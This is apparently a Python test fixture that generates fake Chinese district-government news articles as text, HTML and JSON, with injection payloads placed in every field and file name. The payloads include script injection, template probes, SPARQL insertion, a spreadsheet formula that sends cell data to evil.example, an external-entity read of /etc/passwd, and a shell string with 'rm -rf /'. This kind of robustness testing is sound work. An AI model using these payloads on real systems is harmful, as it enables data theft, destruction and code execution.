"""Invented articles that try to be markup, statements, queries, formulas or orders to a terminal, in every field."""

import html
import json
from pathlib import Path

EVIL = "evil.example"
PAYLOADS = {
    "html": '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "attribute": "\" onmouseover=alert(3) x='' autofocus onfocus=alert(4) y=\"",
    "template": "{{7*7}}{% for x in y %}${7*7}<%= 7*7 %>#{7*7}",
    "turtle": f'"@zh . <http://{EVIL}/s> <http://{EVIL}/p> "o',
    "turtle-long": f'""" \'\'\' \\u0022 \\\\ \\" . <http://{EVIL}/s> a <http://{EVIL}/o> . #',
    "iri": f"> . <http://{EVIL}/s> <http://{EVIL}/p> <http://{EVIL}/o",
    "sparql": f"}} }} ; INSERT DATA {{ <http://{EVIL}/s> <http://{EVIL}/p> 1 }} #",
    "formula": f'=HYPERLINK("http://{EVIL}/?"&A1,"x")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv": 'a,b;c\t"d""e',
    "terminal": "\x1b[2J\x9b31m",
    "bidirectional": "\u202e\u2066\u200b\ufeff\u2028\U000e0041abc",
    "markdown": f"[x](javascript:alert(5)) ![y](http://{EVIL}/p.png) **b** `c` | d | <http://{EVIL}> # e",
    "rich": "[bold red]x[/] [/y] [link=http://evil.example]z[/link] :smile:",
    "header": "x\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "xml": "]]></data><node/><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "shell": "$(id) `id` ; rm -rf / | cat ../../etc/passwd %s %n",
    "percent": "%0d%0aX:1%00%2e%2e%2f%ff",
    "noncharacters": "\ufffe\uffff\ufffd\x01\x0b\x0c",
}
"""What each article has in every field, by what it tries to be."""


def write_articles(folder: Path) -> Path:
    """Write one article for each payload, as text, page and record, to `folder`, and return that."""
    folder.mkdir(parents=True)
    records = []
    for number, payload in enumerate(PAYLOADS.values(), 1):
        stem = f"{number} {payload}".replace("/", "").replace("\0", "")
        (folder / f"{stem[:60]}.txt").write_bytes(_text(number, payload).encode())
        (folder / f"{number}.html").write_bytes(_page(number + 100, payload).encode())
        records.append(_record(number + 200, payload))
    (folder / "records.jsonl").write_text("\n".join(records), encoding="utf-8")
    return folder


def _body(number: int, payload: str) -> str:
    return (
        f"3月4日,区政府在{payload}召开第{number}次常务会议。区长王大明主持会议并讲话,副区长{payload}出席会议。"
        f"会议审议了《{payload}管理办法》,听取了{payload}的汇报。会议强调,一要抓好“{payload}”建设;二要落实{payload}责任。"
        f"王大明要求,各街镇要{payload}压实第{number}批责任。"
    )


def _text(number: int, payload: str) -> str:
    return (
        f"{payload}新都区召开第{number}次会议{payload}\n发布时间:2021-03-05 10:20:30\n{_body(number, payload)}\n"
        f"浏览量:{number}\n来源:{payload} 记者:{payload} 张三丰\n编辑:{payload} 李小四\n0条评论\n"
    )


def _page(number: int, payload: str) -> str:
    said = html.escape(payload)
    return (
        f'<html><head><title>{said}新都区召开第{number}次会议</title><meta name="PubDate" content="2021-03-05 10:20">'
        f'<meta name="ContentSource" content="{said}"><link rel="canonical" href="http://{EVIL}/1{said}"></head>'
        f"<body><h1>{said}新都区召开第{number}次会议</h1><p>{html.escape(_body(number, payload))}</p>{payload}</body>"
    )


def _record(number: int, payload: str) -> str:
    record = {
        "id": payload,
        "url": f"http://news.example/{number}{payload.replace(' ', '')}",
        "title": f"{payload}新都区召开第{number}次会议",
        "published": "2021-03-05 10:20:30",
        "source": payload,
        "reporters": [payload, "张三丰"],
        "editors": payload,
        "text": _body(number, payload),
        "jurisdiction": "四川省成都市新都区",
    }
    return json.dumps(record)
